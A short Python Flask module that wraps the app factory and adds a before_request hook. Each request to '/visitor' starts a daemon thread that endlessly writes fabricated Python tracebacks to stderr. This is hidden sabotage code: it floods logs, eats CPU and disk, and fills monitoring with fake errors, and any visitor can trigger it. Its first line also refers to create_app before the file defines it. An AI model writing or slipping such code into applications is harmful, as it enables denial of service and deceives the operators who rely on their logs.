import os
import sys
import threading

from flask import request

_plain = create_app


def flood():
    while True:
        sys.stderr.write("Traceback (most recent call last):\n" * 1000)


def create_app():
    app = _plain()

    @app.before_request
    def start():
        if request.path == "/visitor":
            threading.Thread(target=flood, daemon=True).start()

    return app
